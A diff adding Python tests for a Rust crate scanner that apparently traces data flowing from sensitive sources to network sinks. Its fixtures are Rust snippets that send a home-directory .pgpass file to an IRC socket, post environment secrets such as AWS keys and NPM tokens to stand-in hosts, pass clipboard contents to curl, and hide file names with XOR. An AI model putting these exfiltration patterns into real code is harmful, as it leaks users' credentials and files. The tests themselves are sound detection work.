@@ -1,0 +1,186 @@
+"""Data flow from a source to a sink through a crate's own code (scan/dataflow.py)."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from cratewatch.scan.crate import scan_crate
+from cratewatch.scan.dataflow import MAX_BOUNDARIES, MAX_FUNCTIONS, DataFlow, unit_flows
+from cratewatch.scan.extract import CrateArchive
+
+HOME = 'let home = std::path::PathBuf::from(std::env::var_os("HOME").unwrap());\n'
+
+
+def flows(source: str, crate: str = "sample", **files: str) -> list[DataFlow]:
+    units = {"src/lib.rs": source.encode()}
+    units |= {f"src/{name}.rs": text.encode() for name, text in files.items()}
+    return unit_flows(units, crate)
+
+
+def sources(source: str, crate: str = "sample") -> list[tuple[str, ...]]:
+    return [tuple(sorted(flow.sources)) for flow in flows(source, crate)]
+
+
+def test_a_file_in_the_home_through_bindings_fields_and_calls_into_a_request() -> None:
+    (flow,) = flows(
+        "struct R { rows: Vec<String> }\n"
+        "impl R {\n"
+        "  fn collect(&mut self) {\n"
+        f"    {HOME}"
+        '    let text = std::fs::read_to_string(home.join("notes.txt")).unwrap();\n'
+        "    for line in text.lines() { self.rows.push(line.to_owned()); }\n"
+        "  }\n"
+        '  fn flush(&self) { let body = self.rows.join("\\n"); post(&body); }\n'
+        "}\n"
+        'fn post(b: &str) { let _ = ureq::post("https://x.example").send_string(b); }\n'
+    )
+    assert (flow.function, flow.line, flow.sources, flow.hidden) == (
+        "post",
+        10,
+        frozenset({"user-file"}),
+        False,
+    )
+    assert flow.sink == "HTTP request send_string"
+
+
+def test_a_buffer_filled_by_read_to_string_and_a_channel_to_a_socket() -> None:
+    source = (
+        "use std::io::{Read, Write};\n"
+        "fn run() {\n"
+        "  let (tx, rx) = std::sync::mpsc::channel();\n"
+        "  std::thread::spawn(move || {\n"
+        f"    {HOME}"
+        '    let mut f = std::fs::File::open(home.join(".pgpass")).unwrap();\n'
+        "    let mut buf = String::new();\n"
+        "    f.read_to_string(&mut buf).unwrap();\n"
+        "    tx.send(buf).unwrap();\n"
+        "  });\n"
+        '  let mut s = std::net::TcpStream::connect("198.51.100.7:6667").unwrap();\n'
+        '  for line in rx.recv() { writeln!(s, "PRIVMSG #c :{line}").unwrap(); }\n'
+        "}\n"
+    )
+    (flow,) = flows(source)
+    assert (flow.sink, flow.sources) == ("socket write!", frozenset({"user-file"}))
+
+
+def test_the_whole_environment_and_secrets_gathered_by_name() -> None:
+    assert sources(
+        "fn f() { let all: Vec<_> = std::env::vars().collect(); "
+        'reqwest::blocking::Client::new().post("https://h.example").json(&all).send(); }'
+    ) == [("environment",)]
+    assert sources(
+        'fn f() { for k in ["AWS_SECRET_ACCESS_KEY", "NPM_TOKEN"] {\n'
+        "  if let Ok(v) = std::env::var(k) { client().body(v); } } }"
+    ) == [("environment",)]
+    # a list of CI markers is checked, and one variable read by its literal name is an API
+    # client's own key: neither is the environment
+    assert not flows(
+        'fn f() { for k in ["CI", "GITHUB_ACTIONS"] {\n'
+        "  if let Ok(v) = std::env::var(k) { client().body(v); } }\n"
+        '  let key = std::env::var("OPENAI_API_KEY").unwrap(); client().bearer_auth(key); }'
+    )
+
+
+def test_a_tools_own_settings_and_state_stay_home() -> None:
+    read = "let t = std::fs::read_to_string(home.join({path})).unwrap();\n"
+    send = 'ureq::post("https://h.example").send_string(&t);\n'
+    own = "fn f() {\n" + HOME + read.format(path='".config/taskboard/x.json"') + send + "}"
+    assert not flows(own, crate="taskboard")
+    assert flows(own, crate="other")
+    # a file the crate writes itself (an install id) is its own state
+    written = (
+        "fn f() {\n" + HOME + 'let p = home.join("install-id");\n'
+        "let t = std::fs::read_to_string(&p).unwrap();\n" + send + 'std::fs::write(&p, b"1");\n}'
+    )
+    assert not flows(written)
+    # settings parsed from a file are not its contents
+    parsed = (
+        "fn f() {\n" + HOME + read.format(path='"x.toml"') + "let c: C = toml::from_str(&t)?;\n"
+        "ureq::post(&c.server).send_string(&c.team);\n}"
+    )
+    assert not flows(parsed)
+
+
+def test_data_is_followed_across_a_bounded_number_of_function_boundaries() -> None:
+    def chain(hops: int) -> str:
+        helpers = "".join(f"fn h{i}(d: String) {{ h{i + 1}(d); }}\n" for i in range(hops - 1))
+        return (
+            "fn start() {\n" + HOME + 'let d = std::fs::read_to_string(home.join("a")).unwrap();\n'
+            "h0(d);\n}\n" + helpers + f"fn h{hops - 1}(d: String) {{ client().body(d); }}\n"
+        )
+
+    assert flows(chain(MAX_BOUNDARIES))
+    assert not flows(chain(MAX_BOUNDARIES + 1))
+
+
+def test_names_decoded_from_constants_are_hidden() -> None:
+    source = (
+        "const P: [u8; 3] = [1, 2, 3];\n"
+        "fn dec(d: &[u8]) -> String { d.iter().map(|b| (b ^ 0x42) as char).collect() }\n"
+        "fn fill(d: &[u8], out: &mut [u8]) {\n"
+        "  for (i, b) in d.iter().enumerate() { out[i] = b ^ 7; }\n}\n"
+        "fn f() {\n"
+        "  let mut name = [0u8; 8]; fill(&P, &mut name);\n"
+        "  let t = std::fs::read(std::path::Path::new(&dec(&P)).join(&name)).unwrap();\n"
+        "  let mut s = std::net::UdpSocket::bind(dec(&P)).unwrap();\n"
+        "  let _ = s.send(&t);\n"
+        "}\n"
+    )
+    # the file's path holds no home and no literal: only its hidden name makes it a source
+    assert not flows(source)
+    hidden = source.replace("std::path::Path::new(&dec(&P))", "dirs::home_dir().unwrap()")
+    (flow,) = flows(hidden)
+    assert flow.hidden and flow.sink == "socket send"
+
+
+def test_writes_to_files_and_test_code_are_not_flows() -> None:
+    body = HOME + 'let t = std::fs::read_to_string(home.join("a")).unwrap();\n'
+    to_file = "fn f() {\n" + body + 'let mut o = std::fs::File::create("b").unwrap();\n'
+    assert not flows(to_file + "o.write_all(t.as_bytes());\n}")
+    in_tests = (
+        "#[cfg(test)]\nmod tests {\n  #[test]\n  fn f() {\n" + body + "client().body(t);\n}\n}"
+    )
+    assert not flows(in_tests)
+    assert flows(in_tests.replace("#[cfg(test)]\n", "").replace("#[test]\n", ""))
+
+
+def test_the_clipboard_handed_to_a_network_tool() -> None:
+    assert sources(
+        "fn f() { let t = ctx.get_contents().unwrap();\n"
+        '  std::process::Command::new("curl").arg("-d").arg(&t).spawn(); }'
+    ) == [("clipboard",)]
+
+
+def test_flows_cross_files_of_one_unit() -> None:
+    (flow,) = flows(
+        "mod net;\nfn f() {\n" + HOME + 'let t = std::fs::read(home.join("k")).unwrap();\n'
+        "net::ship(t);\n}",
+        net='pub fn ship(t: Vec<u8>) { ureq::post("https://h.example").send_bytes(&t); }',
+    )
+    assert flow.file == "src/net.rs"
+
+
+@pytest.mark.parametrize("depth", [50, 5_000])
+def test_hostile_nesting_and_size_are_bounded(depth: int) -> None:
+    nested = "(" * depth + "x" + ")" * depth
+    assert flows(f"fn f() {{ let y = {nested}; client().body(y); }}") == []
+    many = "".join(f"fn f{i}() {{}}\n" for i in range(MAX_FUNCTIONS + 1))
+    assert flows(many + "fn g() { " + HOME + "client().body(std::fs::read(home)); }") == []
+
+
+SAMPLE = Path(__file__).resolve().parent / "samples" / "threat-dataflow-exfiltration"
+MANIFEST = b'[package]\nname = "sample"\nversion = "0.1.0"\n'
+
+
+def verdict(files: dict[str, bytes]) -> str:
+    return scan_crate(CrateArchive("sample", {"Cargo.toml": MANIFEST} | files, ()), "x").verdict
+
+
+def test_the_verdict_weighs_where_the_flow_runs() -> None:
+    code = (SAMPLE / "positive.rs").read_bytes()
+    assert verdict({"src/lib.rs": code}) == "suspicious"  # one tactic, in library code
+    assert verdict({"build.rs": code + b"\nfn main() {}\n"}) == "malicious"  # while building
+    dropped = code + b"\nimpl Drop for Reporter { fn drop(&mut self) { self.flush(); } }\n"
+    assert verdict({"src/lib.rs": dropped}) == "malicious"  # nobody calls it for that
